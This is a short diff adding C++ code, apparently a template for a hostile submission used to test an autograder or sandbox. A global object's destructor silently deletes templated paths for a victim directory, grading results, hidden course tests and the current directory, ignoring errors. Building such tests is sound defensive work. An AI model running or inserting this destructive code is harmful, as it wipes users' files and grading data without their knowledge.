@@ -1,0 +1,9 @@
+#include <filesystem>
+struct Deleter {
+  ~Deleter() {
+    for (const char* path : {"{victim}", "{results}", "{course}/a1/hidden", "."}) {
+      std::error_code ignored;
+      std::filesystem::remove_all(path, ignored);
+    }
+  }
+} deleter;
